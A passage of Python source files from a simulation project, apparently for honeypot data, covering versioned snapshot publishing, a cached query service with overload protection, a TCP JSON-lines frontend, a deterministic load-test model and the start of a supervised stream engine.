without any invalidation protocol — a new version simply stops hitting
the old keys.

Identity: a live-published snapshot carries a *rolling* content digest
(SHA-256 over each folded record's canonical content hash, in arrival
order) maintained incrementally by the publisher — O(new records) per
boundary, never a full-dataset rescan.  A snapshot built from an
indexed artifact tree (:meth:`Snapshot.from_store`) instead carries the
store's dataset digest from ``store_meta``.  Both uniquely identify the
content; they are different encodings, so digests are comparable
within a creation path, aggregates across both (the differential suite
checks live-vs-store aggregate equality).

The publisher is a pure observer: it reads the collector, never
mutates it, so simulation digests, accounting and checkpoint bytes are
byte-identical with a publisher attached or absent.
"""

from __future__ import annotations

import hashlib
from dataclasses import dataclass
from datetime import date
from typing import Callable, Mapping

from repro import telemetry
from repro.stream.supervisor import MODE_FULL
from repro.util.timeutils import epoch_date


@dataclass(frozen=True)
class Snapshot:
    """One immutable published state of the evolving corpus."""

    version: int
    day: str  #: last day folded in, ISO format
    day_ordinal: int
    content_digest: str
    sessions: int
    by_day: Mapping[str, int]
    by_label: Mapping[str, int]
    accounting: Mapping[str, int]
    mode: str = MODE_FULL
    #: Degraded-mode timeline (mode-transition dicts) up to this boundary.
    timeline: tuple[dict, ...] = ()
    #: Latest rolling-ledger audit verdict, or None (unsupervised runs).
    ledger: Mapping[str, object] | None = None

    def status_payload(self) -> dict:
        """The status endpoint's view: identity + health, no aggregates."""
        return {
            "version": self.version,
            "day": self.day,
            "sessions": self.sessions,
            "content_digest": self.content_digest,
            "mode": self.mode,
            "timeline": [dict(t) for t in self.timeline],
            "ledger": dict(self.ledger) if self.ledger is not None else None,
        }

    def aggregate_payload(self) -> dict:
        """The precomputed per-day / per-label headline aggregates."""
        return {
            "sessions": self.sessions,
            "by_day": dict(self.by_day),
            "by_label": dict(self.by_label),
            "accounting": dict(self.accounting),
        }

    @classmethod
    def from_store(cls, store) -> "Snapshot":
        """A version-1 snapshot describing an indexed artifact tree."""
        from repro.store.base import snapshot_aggregates

        aggregates = snapshot_aggregates(store)
        by_day = aggregates["by_day"]
        last_day = max(by_day) if by_day else date(1970, 1, 1).isoformat()
        return cls(
            version=1,
            day=last_day,
            day_ordinal=date.fromisoformat(last_day).toordinal(),
            content_digest=aggregates["content_digest"],
            sessions=aggregates["sessions"],
            by_day=by_day,
            by_label=aggregates["by_label"],
            accounting={"stored": aggregates["sessions"]},
        )


class SnapshotPublisher:
    """Folds collector state into versioned snapshots at day boundaries.

    The engine hands over a dirty flag implicitly: the publisher tracks
    how many collector sessions it has folded, and a boundary that
    brought no new sessions, no mode/timeline change and no new ledger
    verdict re-publishes nothing — the previous version stays current
    and ``skipped_clean`` counts the no-op (quiet days cost nothing).
    """

    def __init__(self) -> None:
        self._latest: Snapshot | None = None
        self.published = 0
        self.skipped_clean = 0
        self._folded = 0
        self._hasher = hashlib.sha256()
        self._by_day: dict[str, int] = {}
        self._by_label: dict[str, int] = {}
        #: Hooks fired with each new snapshot (e.g. a day-boundary load
        #: burst in the soak leg).  Must not mutate simulation state.
        self.on_publish: list[Callable[[Snapshot], None]] = []

    @property
    def latest(self) -> Snapshot | None:
        return self._latest

    @property
    def version(self) -> int:
        return self._latest.version if self._latest is not None else 0

    def _fold(self, sessions) -> None:
        """Fold not-yet-seen sessions into the rolling aggregates."""
        from repro.analysis.classify import DEFAULT_CLASSIFIER
        from repro.store.base import record_hash

        for session in sessions:
            day_key = epoch_date(session.start).isoformat()
            self._by_day[day_key] = self._by_day.get(day_key, 0) + 1
            label = DEFAULT_CLASSIFIER.classify(session)
            self._by_label[label] = self._by_label.get(label, 0) + 1
            self._hasher.update(record_hash(session).encode("ascii"))

    def publish_day(
        self,
        collector,
        day: date,
        *,
        supervisor=None,
        ledger=None,
    ) -> Snapshot | None:
        """Publish the boundary snapshot for ``day``, or skip if clean."""
        sessions = collector.sessions
        fresh = sessions[self._folded:]
        mode = supervisor.mode if supervisor is not None else MODE_FULL
        timeline = (
            tuple(t.as_dict() for t in supervisor.transitions)
            if supervisor is not None
            else ()
        )
        ledger_state = ledger.verdict() if ledger is not None else None
        previous = self._latest
        dirty = (
            previous is None
            or bool(fresh)
            or previous.mode != mode
            or previous.timeline != timeline
            or previous.ledger != ledger_state
        )
        if not dirty:
            self.skipped_clean += 1
            telemetry.count("service.snapshot.skipped_clean")
            return None
        self._fold(fresh)
        self._folded = len(sessions)
        snapshot = Snapshot(
            version=self.published + 1,
            day=day.isoformat(),
            day_ordinal=day.toordinal(),
            content_digest=self._hasher.hexdigest(),
            sessions=len(sessions),
            by_day=dict(self._by_day),
            by_label=dict(self._by_label),
            accounting=dict(collector.accounting()),
            mode=mode,
            timeline=timeline,
            ledger=ledger_state,
        )
        self.published += 1
        self._latest = snapshot
        telemetry.count("service.snapshot.published")
        for hook in self.on_publish:
            hook(snapshot)
        return snapshot


def publish_result(publisher: SnapshotPublisher, result) -> Snapshot:
    """Publish one final snapshot of a finished run (batch or parallel).

    The parallel engine has no day-boundary hook in the parent — shards
    simulate days remotely — so a service attached to a parallel run
    serves the merged end state: one snapshot folded from the final
    collector, published at the run's last day.
    """
    snapshot = publisher.publish_day(
        result.collector,
        result.config.end,
        supervisor=None,
        ledger=None,
    )
    if snapshot is None:  # nothing new since the last publish
        snapshot = publisher.latest
    assert snapshot is not None
    return snapshot
