"""Query/status service over versioned immutable snapshots.

The stream engine turned the day loop into a supervised live pipeline;
this package is phase 2 — the read side.  At each dirty day boundary
the engine publishes a versioned immutable :class:`Snapshot` (content
digest, day ordinal, per-day/per-label aggregates, degraded-mode
timeline, ledger verdict); a :class:`QueryService` answers queries
against the newest one, backed by :mod:`repro.store` for filtered
lookups, behind the full overload-protection ladder:

* read-through LRU cache keyed ``(snapshot_version, query_fingerprint)``
  with single-flight stampede suppression (:mod:`repro.service.cache`);
* per-client token buckets, bounded request queue feeding an admission
  gate, per-request deadlines with cancellation, and a service↔store
  circuit breaker that degrades to the last-good snapshot marked
  ``stale`` (:mod:`repro.service.core`);
* a seeded load model (:mod:`repro.service.loadmodel`) driving the
  client fault domain (:mod:`repro.faults.service`), so a whole load
  test is a pure function of ``(seed, config, policy)`` — asserted in
  tier-1 entirely in memory, no sockets;
* an optional JSON-lines TCP frontend behind ``repro serve``
  (:mod:`repro.service.frontend`).

Everything timing-related runs on the virtual clock, and the service is
a pure reader: simulation digests, accounting and checkpoint bytes are
byte-identical with the service attached or absent (the differential
suite proves it, serial and sharded).

Layering: ``service`` composes ``stream`` (snapshots, breaker, queues),
``store``, ``overload`` and ``faults`` — it sits at the ``experiments``
layer next to the CLI; nothing imports it except the CLI and tests.
"""

from __future__ import annotations

from repro.service.cache import QueryCache, query_fingerprint
from repro.service.core import (
    KINDS,
    OUTCOME_OK,
    OUTCOME_REJECTED,
    OUTCOME_STALE,
    OUTCOMES,
    PRIORITY_HIGH,
    PRIORITY_LOW,
    PRIORITY_STATUS,
    QueryService,
    Request,
    Response,
    ServicePolicy,
)
from repro.service.frontend import ServiceFrontend, serve
from repro.service.loadmodel import (
    LoadTestReport,
    PlannedRequest,
    ServiceLoadModel,
    run_load_test,
)
from repro.service.snapshot import (
    Snapshot,
    SnapshotPublisher,
    publish_result,
)

__all__ = [
    "KINDS",
    "LoadTestReport",
    "OUTCOME_OK",
    "OUTCOME_REJECTED",
    "OUTCOME_STALE",
    "OUTCOMES",
    "PRIORITY_HIGH",
    "PRIORITY_LOW",
    "PRIORITY_STATUS",
    "PlannedRequest",
    "QueryCache",
    "QueryService",
    "Request",
    "Response",
    "ServiceFrontend",
    "ServiceLoadModel",
    "ServicePolicy",
    "Snapshot",
    "SnapshotPublisher",
    "publish_result",
    "query_fingerprint",
    "run_load_test",
    "serve",
]
