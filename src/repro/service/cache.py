"""Read-through LRU cache with single-flight stampede suppression.

Entries are keyed on ``(snapshot_version, query_fingerprint)``: a
query's answer is immutable for the lifetime of the snapshot version
that produced it, so there is no invalidation protocol at all — a new
version simply starts missing, and old entries age out of the LRU.

Single flight: when N identical queries arrive concurrently (the
thundering-herd profile), the first one starts the store load as a
task and the other N-1 await that same task — one store hit total,
counted as one miss plus N-1 ``coalesced``.  A failed load propagates
the error to every waiter (so the breaker sees one failure, not N) and
caches nothing.
"""

from __future__ import annotations

import asyncio
import hashlib
import json
from collections import OrderedDict
from typing import Awaitable, Callable

from repro import telemetry


def query_fingerprint(kind: str, params: dict) -> str:
    """Canonical fingerprint of one query: kind + sorted-key params."""
    canonical = json.dumps(
        {"kind": kind, "params": params},
        sort_keys=True,
        separators=(",", ":"),
        default=str,
    )
    return hashlib.sha256(canonical.encode("utf-8")).hexdigest()


class QueryCache:
    """The service's read-through LRU, single-flight included."""

    def __init__(self, capacity: int = 256) -> None:
        if capacity < 1:
            raise ValueError("capacity must be at least 1")
        self.capacity = capacity
        self._entries: OrderedDict[tuple, object] = OrderedDict()
        self._inflight: dict[tuple, asyncio.Task] = {}
        self.hits = 0
        self.misses = 0
        self.coalesced = 0
        self.evictions = 0

    def __len__(self) -> int:
        return len(self._entries)

    async def get_or_load(
        self, key: tuple, loader: Callable[[], Awaitable[object]]
    ) -> tuple[object, str]:
        """The cached value for ``key``, loading through on a miss.

        Returns ``(value, served_from)`` where ``served_from`` is
        ``"hit"``, ``"miss"`` or ``"coalesced"`` — the ledger records
        it per request, and the bench's cache-hit-ratio floor is
        computed from these counters.
        """
        if key in self._entries:
            self._entries.move_to_end(key)
            self.hits += 1
            telemetry.count("service.cache.hits")
            return self._entries[key], "hit"
        task = self._inflight.get(key)
        if task is not None:
            self.coalesced += 1
            telemetry.count("service.cache.coalesced")
            return await asyncio.shield(task), "coalesced"
        self.misses += 1
        telemetry.count("service.cache.misses")
        task = asyncio.ensure_future(loader())
        self._inflight[key] = task
        try:
            value = await asyncio.shield(task)
        finally:
            self._inflight.pop(key, None)
        self._entries[key] = value
        self._entries.move_to_end(key)
        while len(self._entries) > self.capacity:
            self._entries.popitem(last=False)
            self.evictions += 1
            telemetry.count("service.cache.evictions")
        return value, "miss"

    @property
    def hit_ratio(self) -> float:
        """Hits (including coalesced waits) over all lookups."""
        total = self.hits + self.misses + self.coalesced
        if not total:
            return 1.0
        return (self.hits + self.coalesced) / total
