"""Optional real-socket frontend: JSON lines over TCP.

Everything the service *is* lives in :mod:`repro.service.core` and is
exercised in-memory — the tier-1 suite never opens a socket.  This
module is the thin translation layer behind ``repro serve``: one JSON
object per line in (``{"kind": ..., "params": ..., "client_id": ...,
"priority": ...}``), one contractual response object per line out.

The frontend adds no policy of its own: a connection's peer name is the
default client id (so the per-client token buckets see real peers), a
line that is not valid JSON is answered as ``rejected(malformed)``
through the same validation rung everything else uses, and the virtual
clock advances per request exactly as under the load model.
"""

from __future__ import annotations

import asyncio
import json

from repro.service.core import (
    PRIORITY_LOW,
    PRIORITY_STATUS,
    QueryService,
    Request,
)


class ServiceFrontend:
    """One TCP listener translating JSON lines to service requests."""

    def __init__(
        self,
        service: QueryService,
        *,
        host: str = "127.0.0.1",
        port: int = 8642,
        max_requests: int | None = None,
    ) -> None:
        self.service = service
        self.host = host
        self.port = port
        #: Stop serving after this many requests (smoke tests); None
        #: means serve until cancelled.
        self.max_requests = max_requests
        self.handled = 0
        self._server: asyncio.AbstractServer | None = None
        self._done = asyncio.Event()

    def _parse(self, line: bytes, peer: str) -> Request | None:
        try:
            payload = json.loads(line.decode("utf-8"))
        except (UnicodeDecodeError, json.JSONDecodeError):
            return None
        if not isinstance(payload, dict):
            return None
        kind = str(payload.get("kind", ""))
        params = payload.get("params") or {}
        if not isinstance(params, dict):
            return None
        priority = str(
            payload.get(
                "priority",
                PRIORITY_STATUS if kind == "status" else PRIORITY_LOW,
            )
        )
        return Request(
            client_id=str(payload.get("client_id", peer)),
            kind=kind,
            params=params,
            priority=priority,
        )

    async def _handle_connection(
        self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
    ) -> None:
        peername = writer.get_extra_info("peername")
        peer = peername[0] if peername else "unknown"
        try:
            while True:
                line = await reader.readline()
                if not line:
                    break
                line = line.strip()
                if not line:
                    continue
                request = self._parse(line, peer)
                if request is None:
                    # Unparseable input goes through the same reject
                    # rung as a well-formed-but-invalid query.
                    request = Request(client_id=peer, kind="unparseable")
                response = await self.service.handle(request)
                writer.write(
                    json.dumps(response.as_dict(), sort_keys=True).encode(
                        "utf-8"
                    )
                    + b"\n"
                )
                await writer.drain()
                self.handled += 1
                if (
                    self.max_requests is not None
                    and self.handled >= self.max_requests
                ):
                    self._done.set()
                    break
        except ConnectionResetError:
            pass  # a real client disconnect is not an error
        finally:
            writer.close()

    async def start(self) -> None:
        self._server = await asyncio.start_server(
            self._handle_connection, host=self.host, port=self.port
        )
        sockets = self._server.sockets or ()
        if sockets:
            self.port = sockets[0].getsockname()[1]

    async def serve_until_done(self, ready=None) -> None:
        """Serve until ``max_requests`` is reached (or forever).

        ``ready`` is called with this frontend once the socket is bound
        (so a ``--port 0`` caller can learn the resolved port).
        """
        if self._server is None:
            await self.start()
        assert self._server is not None
        if ready is not None:
            ready(self)
        async with self._server:
            if self.max_requests is None:
                await self._server.serve_forever()
            else:
                await self._done.wait()


def serve(
    service: QueryService,
    *,
    host: str = "127.0.0.1",
    port: int = 8642,
    max_requests: int | None = None,
    ready=None,
) -> ServiceFrontend:
    """Run the frontend on a fresh event loop (the ``repro serve`` body)."""
    frontend = ServiceFrontend(
        service, host=host, port=port, max_requests=max_requests
    )
    asyncio.run(frontend.serve_until_done(ready=ready))
    return frontend
