"""Seeded API load model: a load test as a pure function of its inputs.

:class:`ServiceLoadModel` plays the role the fault plans play for the
simulation: it compiles a deterministic request schedule — which client
asks which query at which tick, which requests stall, vanish, arrive
malformed or stampede — *before* dispatching anything, keyed off a
dedicated ``RngTree`` branch.  Dispatch then runs each tick's requests
concurrently through :meth:`QueryService.handle` (``asyncio.gather`` in
schedule order, so the interleaving is deterministic too) and records
one ledger entry per request.

Thundering herds reuse the flood machinery: a herd tick's burst is
drawn through :class:`repro.faults.flood.FloodGenerator` — the same
generator that models scan floods at the ingest boundary models client
stampedes at the serving boundary, with ticks mapped to synthetic days.

The resulting :class:`LoadTestReport` carries the full request-outcome
ledger and a digest over it; replaying the same ``(seed, config,
policy)`` produces a byte-identical ledger (``tests/test_service.py``
pins this), which is what makes overload behaviour assertable in tier-1
without real sockets.
"""

from __future__ import annotations

import asyncio
import hashlib
import json
from dataclasses import dataclass, field
from datetime import date

from repro.faults.plan import FloodFaults
from repro.faults.flood import FloodGenerator
from repro.faults.service import (
    ServiceFaults,
    compile_request_plan,
    compile_tick_plan,
)
from repro.service.core import (
    KIND_AGGREGATE,
    KIND_COUNT,
    KIND_COUNT_BY,
    KIND_DISTINCT,
    KIND_STATUS,
    PRIORITY_HIGH,
    PRIORITY_LOW,
    PRIORITY_STATUS,
    QueryService,
    Request,
    Response,
)
from repro.util.rng import RngTree

#: Ticks map to synthetic days for the flood generator's day-keyed
#: arrival streams (any fixed epoch works; this one is arbitrary).
_TICK_EPOCH_ORDINAL = date(2023, 1, 1).toordinal()

#: The canonical query mix — deliberately small so repeated-query load
#: has a high natural repeat rate (the cache-hit-ratio floor's shape).
#: The ``_TICK_DAY`` sentinel is replaced with the tick's synthetic day
#: at schedule time: one always-fresh query per pool pass, so cache
#: misses (and therefore injected store errors) keep reaching the store
#: throughout a run instead of only on the first tick.
_TICK_DAY = "@tick-day"
_QUERY_POOL: tuple[tuple[str, dict], ...] = (
    (KIND_AGGREGATE, {}),
    (KIND_COUNT, {}),
    (KIND_COUNT_BY, {"by": "day"}),
    (KIND_COUNT_BY, {"by": "rule_label"}),
    (KIND_DISTINCT, {"by": "sensor_id"}),
    (KIND_COUNT, {"day": _TICK_DAY}),
)

#: The one hot query every herd client stampedes.
_HOT_QUERY: tuple[str, dict] = (KIND_COUNT_BY, {"by": "rule_label"})

#: What a malformed request mutates into: unknown kind, then unknown
#: filter column, alternating on the ordinal.
_MALFORMED = (
    ("bogus-kind", {}),
    (KIND_COUNT, {"no_such_column": 1}),
)


@dataclass(frozen=True)
class PlannedRequest:
    """One schedule slot: the request plus its compiled faults."""

    tick: int
    ordinal: int
    request: Request
    stall_s: float = 0.0
    disconnect: bool = False
    store_error: bool = False
    herd: bool = False


@dataclass
class LoadTestReport:
    """The request-outcome ledger one load-model run produces."""

    seed: int
    ticks: int
    clients: int
    requests_per_tick: int
    faults: str  #: repr of the ServiceFaults driving the run
    policy: str  #: repr of the ServicePolicy the service ran under
    entries: list[dict] = field(default_factory=list)
    total: int = 0
    ok: int = 0
    stale: int = 0
    rejected: dict[str, int] = field(default_factory=dict)
    #: Requests that resolved to anything outside the contract — must
    #: be zero while any snapshot exists (the bench floor).
    unserved: int = 0
    cache_hit_ratio: float = 0.0
    stale_rate: float = 0.0

    def digest(self) -> str:
        """SHA-256 over the canonical ledger: replay equality in one
        comparison."""
        canonical = json.dumps(
            {
                "seed": self.seed,
                "ticks": self.ticks,
                "clients": self.clients,
                "requests_per_tick": self.requests_per_tick,
                "faults": self.faults,
                "policy": self.policy,
                "entries": self.entries,
            },
            sort_keys=True,
            separators=(",", ":"),
        )
        return hashlib.sha256(canonical.encode("utf-8")).hexdigest()

    def as_dict(self) -> dict:
        return {
            "seed": self.seed,
            "ticks": self.ticks,
            "clients": self.clients,
            "requests_per_tick": self.requests_per_tick,
            "faults": self.faults,
            "policy": self.policy,
            "total": self.total,
            "ok": self.ok,
            "stale": self.stale,
            "rejected": dict(sorted(self.rejected.items())),
            "unserved": self.unserved,
            "cache_hit_ratio": round(self.cache_hit_ratio, 4),
            "stale_rate": round(self.stale_rate, 4),
            "ledger_digest": self.digest(),
        }


@dataclass(frozen=True)
class ServiceLoadModel:
    """One deterministic load scenario against a :class:`QueryService`."""

    seed: int = 0
    clients: int = 6
    ticks: int = 20
    requests_per_tick: int = 8
    faults: ServiceFaults = field(default_factory=ServiceFaults)
    #: Virtual seconds the clock advances between ticks (token refill).
    tick_advance_s: float = 1.0

    def schedule(self) -> list[PlannedRequest]:
        """Compile the full request schedule — every draw happens here,
        before dispatch, so outcomes cannot depend on interleaving."""
        tree = RngTree(self.seed).child("service", "load")
        herd_generator = FloodGenerator(
            faults=FloodFaults(
                burst_probability=1.0,
                burst_sessions=self.faults.herd_clients,
            ),
            tree=tree.child("herd"),
        )
        planned: list[PlannedRequest] = []
        for tick in range(self.ticks):
            tick_plan = compile_tick_plan(self.faults, tree, tick)
            mix = tree.rand_for(tick, "mix")
            requests: list[tuple[str, str, dict, str]] = []
            for _ in range(self.requests_per_tick):
                client = f"client-{mix.randrange(self.clients)}"
                if mix.random() < 0.125:
                    requests.append(
                        (client, KIND_STATUS, {}, PRIORITY_STATUS)
                    )
                    continue
                kind, params = _QUERY_POOL[mix.randrange(len(_QUERY_POOL))]
                params = dict(params)
                if params.get("day") == _TICK_DAY:
                    params["day"] = date.fromordinal(
                        _TICK_EPOCH_ORDINAL + tick
                    ).isoformat()
                priority = (
                    PRIORITY_HIGH if mix.random() < 0.3 else PRIORITY_LOW
                )
                requests.append((client, kind, params, priority))
            if tick_plan.herd:
                day = date.fromordinal(_TICK_EPOCH_ORDINAL + tick)
                kind, params = _HOT_QUERY
                for _, _, intent in herd_generator.arrivals(day, 1):
                    requests.append(
                        (
                            f"herd-{intent.client_ip}",
                            kind,
                            dict(params),
                            PRIORITY_HIGH,
                        )
                    )
            for ordinal, (client, kind, params, priority) in enumerate(
                requests
            ):
                plan = compile_request_plan(self.faults, tree, tick, ordinal)
                if plan.malformed:
                    kind, params = _MALFORMED[ordinal % len(_MALFORMED)]
                    params = dict(params)
                store_error = (
                    tick_plan.error_at_request is not None
                    and tick_plan.error_at_request
                    <= ordinal
                    < tick_plan.error_at_request + tick_plan.error_run
                )
                planned.append(
                    PlannedRequest(
                        tick=tick,
                        ordinal=ordinal,
                        request=Request(
                            client_id=client,
                            kind=kind,
                            params=params,
                            priority=priority,
                        ),
                        stall_s=plan.stall_s,
                        disconnect=plan.disconnect,
                        store_error=store_error,
                        herd=ordinal >= self.requests_per_tick,
                    )
                )
        return planned

    async def run(self, service: QueryService) -> LoadTestReport:
        """Dispatch the schedule and collect the outcome ledger."""
        from repro.faults.service import RequestFaultPlan

        report = LoadTestReport(
            seed=self.seed,
            ticks=self.ticks,
            clients=self.clients,
            requests_per_tick=self.requests_per_tick,
            faults=repr(self.faults),
            policy=repr(service.policy),
        )
        schedule = self.schedule()
        by_tick: dict[int, list[PlannedRequest]] = {}
        for slot in schedule:
            by_tick.setdefault(slot.tick, []).append(slot)
        for tick in range(self.ticks):
            slots = by_tick.get(tick, [])
            results = await asyncio.gather(
                *(
                    service.handle(
                        slot.request,
                        plan=RequestFaultPlan(
                            stall_s=slot.stall_s,
                            disconnect=slot.disconnect,
                            malformed=False,  # already applied in schedule
                        ),
                        store_error=slot.store_error,
                    )
                    for slot in slots
                ),
                return_exceptions=True,
            )
            for slot, outcome in zip(slots, results):
                report.total += 1
                if not isinstance(outcome, Response):
                    report.unserved += 1
                    report.entries.append(
                        {
                            "tick": slot.tick,
                            "ordinal": slot.ordinal,
                            "client": slot.request.client_id,
                            "kind": slot.request.kind,
                            "outcome": "unserved",
                            "error": repr(outcome),
                        }
                    )
                    continue
                if outcome.outcome == "ok":
                    report.ok += 1
                elif outcome.outcome == "stale":
                    report.stale += 1
                else:
                    reason = outcome.reason or "unknown"
                    report.rejected[reason] = (
                        report.rejected.get(reason, 0) + 1
                    )
                report.entries.append(
                    {
                        "tick": slot.tick,
                        "ordinal": slot.ordinal,
                        "client": slot.request.client_id,
                        "kind": slot.request.kind,
                        "herd": slot.herd,
                        "outcome": outcome.outcome,
                        "reason": outcome.reason,
                        "version": outcome.version,
                        "stale": outcome.stale,
                        "cache": outcome.cache,
                        "disconnected": slot.disconnect,
                    }
                )
            service.advance(self.tick_advance_s)
        report.cache_hit_ratio = service.cache.hit_ratio
        report.stale_rate = (
            report.stale / report.total if report.total else 0.0
        )
        return report


def run_load_test(
    service: QueryService, model: ServiceLoadModel
) -> LoadTestReport:
    """Synchronous wrapper: one fresh event loop, one report."""
    return asyncio.run(model.run(service))
