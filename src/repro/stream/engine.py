"""The supervised stream engine — and the batch day-loop as its replay.

``repro.stream`` refactors the orchestrator's serial day loop into an
event stream: sensors (the honeypots inside
:func:`~repro.attackers.orchestrator.simulate_day`) *push* each closed
session into the pipeline, where it crosses the existing
admission/transport layer into the incremental analysis core — online
dedup via the :class:`~repro.honeynet.collector.Collector`, a rolling
conservation/coverage ledger audited every day, live ``overload.*``
gauges, and an optional
:class:`~repro.analysis.online.OnlineClusterer` hookup.

Around that pipeline sits the supervision layer
(:mod:`repro.stream.supervisor`): per-stage circuit breakers with
seeded probe schedules, a bounded inter-stage queue whose depth feeds
backpressure into the admission controller, heartbeat monitoring on the
:class:`~repro.overload.watchdog.DeadlinePolicy` watchdog, the
``full → analysis-deferred → shed-only`` degraded-mode ladder, and
crash recovery that resumes the stream — supervision state included —
from the newest valid checkpoint generation.

**Batch mode is a replay of the stream.**  ``run_simulation``'s serial
engine calls :func:`run_stream` under :meth:`StreamPolicy.replay`; the
day-boundary sequence (simulate → drain gate → flush telemetry →
checkpoint cadence → stop check) is this module's loop, so there is
exactly one code path.  On the fault-free path every push is pumped
synchronously — queue depth never exceeds one, delivery order equals
the batch loop's — which is why stream digests, accounting and
checkpoint bytes are byte-identical to the batch engine
(``tests/test_stream.py`` pins the matrix).

All supervision timing runs on a *virtual* clock that advances a fixed
tick per pushed event; stall durations, probe backoffs, heartbeat
deadlines and clock skews are measured on it, never on wall time, so
breaker and ladder timelines are a pure function of ``(seed, policy)``.
"""

from __future__ import annotations

import logging
import time
from dataclasses import dataclass, field
from datetime import date, timedelta
from pathlib import Path

from repro import telemetry
from repro.attackers.orchestrator import (
    DEFAULT_CHECKPOINT_EVERY_DAYS,
    SimulationResult,
    SimulationSubstrate,
    _export_store,
    _finish_result,
    _resume_state,
    build_substrate,
    simulate_day,
)
from repro.config import SimulationConfig
from repro.faults.checkpoint import save_checkpoint
from repro.faults.stream import INERT_DAY_PLAN, compile_day_plan
from repro.honeynet.collector import Collector
from repro.stream.breaker import CLOSED, BreakerTransition
from repro.stream.policy import StreamPolicy
from repro.stream.queues import LEVEL_CRITICAL
from repro.stream.supervisor import (
    MODE_ANALYSIS_DEFERRED,
    MODE_SHED_ONLY,
    STAGE_ANALYSIS,
    STAGE_INGEST,
    STAGES,
    BEAT_HARD,
    ModeTransition,
    StreamSupervisor,
)
from repro.util.timeutils import days_between, month_key

# The run loop's progress messages keep their historical logger name:
# this module IS the serial simulation engine (batch = replay).
logger = logging.getLogger("repro.simulation")


class StreamIntegrityError(RuntimeError):
    """The rolling conservation ledger caught an accounting violation."""


@dataclass
class RollingLedger:
    """Per-day conservation/coverage audit over the collection boundary.

    Every day boundary re-checks the conservation law (and, with an
    admission gate attached, the extended law
    ``admitted == stored + deduplicated``) and folds the day's counter
    deltas into a running coverage view — a violation raises
    :class:`StreamIntegrityError` on the day it happens, not at the end
    of a month-long run.
    """

    days: int = 0
    #: Last audited absolute accounting (for delta computation).
    last: dict[str, int] = field(default_factory=dict)
    #: Cumulative per-bucket deltas observed since the ledger started.
    totals: dict[str, int] = field(default_factory=dict)
    #: ISO date of the newest audited boundary, or None before the first.
    last_day: str | None = None

    def audit(self, collector: Collector, day: date) -> None:
        if not collector.accounting_balanced():
            raise StreamIntegrityError(
                f"conservation law violated at day boundary {day}: "
                f"{collector.accounting()}"
            )
        if collector.admission is not None:
            stored = len(collector.sessions)
            if collector.admitted != stored + collector.deduplicated:
                raise StreamIntegrityError(
                    "extended conservation law violated at day boundary "
                    f"{day}: admitted={collector.admitted} != "
                    f"stored={stored} + deduplicated={collector.deduplicated}"
                )
        current = collector.accounting()
        for key, value in current.items():
            delta = value - self.last.get(key, 0)
            if delta:
                self.totals[key] = self.totals.get(key, 0) + delta
        self.last = current
        self.days += 1
        self.last_day = day.isoformat()

    @property
    def coverage_rate(self) -> float:
        """Stored fraction of everything generated since the ledger began."""
        generated = self.totals.get("generated", 0)
        if not generated:
            return 1.0
        return self.totals.get("stored", 0) / generated

    def verdict(self) -> dict:
        """The latest day-boundary audit verdict, as the status endpoint
        and checkpoint report it.

        ``balanced`` is definitionally True on any live ledger — a
        violation raises :class:`StreamIntegrityError` at the boundary
        it happens, so a ledger you can still ask is one whose every
        audited day passed.
        """
        return {
            "days": self.days,
            "balanced": True,
            "coverage_rate": round(self.coverage_rate, 6),
            "last_day": self.last_day,
        }

    def snapshot(self) -> dict:
        """Checkpoint payload: enough to resume audit continuity."""
        return {
            "days": self.days,
            "last_day": self.last_day,
            "last": dict(self.last),
            "totals": dict(self.totals),
        }

    def restore(self, payload: dict) -> None:
        self.days = int(payload["days"])
        last_day = payload.get("last_day")
        self.last_day = str(last_day) if last_day is not None else None
        self.last = {
            str(key): int(value)
            for key, value in payload.get("last", {}).items()
        }
        self.totals = {
            str(key): int(value)
            for key, value in payload.get("totals", {}).items()
        }


@dataclass
class StreamReport:
    """Supervision summary attached to a supervised run's result."""

    mode: str
    transitions: list[ModeTransition]
    breaker_transitions: dict[str, list[BreakerTransition]]
    days: int
    events: int
    queue_peak_depth: int
    forced_drains: int
    stalls: int
    partition_buffered: int
    partition_replayed: int
    analysis_observed: int
    analysis_deferred: int
    analysis_errors: int
    heartbeat_soft_breaches: int
    heartbeat_hard_breaches: int
    skew_days: int
    ledger_days: int
    coverage_rate: float
    online_clusters: int | None = None
    #: Latest :meth:`RollingLedger.verdict` at run end.
    ledger_verdict: dict | None = None


class StreamSubstrate:
    """One stream run's full state: the simulation substrate plus the
    supervision plumbing (queue, breakers, heartbeats, fault plans,
    virtual clock) wrapped around it."""

    def __init__(
        self,
        base: SimulationSubstrate,
        policy: StreamPolicy,
        publisher=None,
    ) -> None:
        self.base = base
        self.policy = policy
        self.collector = base.fresh_collector()
        self.channel = base.fresh_channel(self.collector)
        self.ledger = RollingLedger()
        #: Optional :class:`repro.service.SnapshotPublisher` — a pure
        #: observer handed each day boundary (duck-typed here so the
        #: stream layer never imports the service layer above it).
        self.publisher = publisher
        self.supervisor: StreamSupervisor | None = None
        self.clusterer = None
        self._fault_tree = None
        self._sensor_ids: tuple[str, ...] = ()
        if policy.supervised:
            tree = base.tree.child("stream")
            self.supervisor = StreamSupervisor.build(
                tree,
                queue_capacity=policy.queue_capacity,
                high_watermark=policy.effective_high_watermark,
                failure_threshold=policy.breaker_failure_threshold,
                recovery_s=policy.breaker_recovery_s,
                max_backoff_s=policy.breaker_max_backoff_s,
                heartbeat_policy=policy.heartbeat_policy(),
            )
            self._sensor_ids = tuple(
                sorted(
                    honeypot.honeypot_id
                    for honeypot in base.honeynet.honeypots
                )
            )
            if not policy.faults.inert:
                self._fault_tree = tree.child("faults")
            if policy.online_clustering:
                from repro.analysis.online import OnlineClusterer

                self.clusterer = OnlineClusterer()
        # virtual clock + per-day fault state
        self._tick = policy.tick_s
        self._now = 0.0
        self._ordinal = 0
        self._event = 0
        self._event_total = 0
        self._days_seen = 0
        self._stall_at: int | None = None
        self._stall_s = 0.0
        self._stall_until: float | None = None
        self._error_at: int | None = None
        self._error_left = 0
        self._skew = 0.0
        self._partitioned: frozenset[str] = frozenset()
        self._partition_buffer: list = []
        self._pressure_applied = 0
        # report accumulators
        self._stalls = 0
        self._partition_buffered = 0
        self._partition_replayed = 0
        self._analysis_observed = 0
        self._analysis_deferred = 0
        self._analysis_errors = 0
        self._skew_days = 0
        self._tel_flushed: dict[str, int] = {}

    # ------------------------------------------------------------------
    # event pipeline
    # ------------------------------------------------------------------
    def _push(self, record) -> bool:
        """Sensor-side entry: one closed session enters the stream.

        Healthy path: synchronous pump — process immediately, in
        arrival order, exactly like the batch loop's direct delivery.
        Under a consumer stall the record joins the bounded queue; a
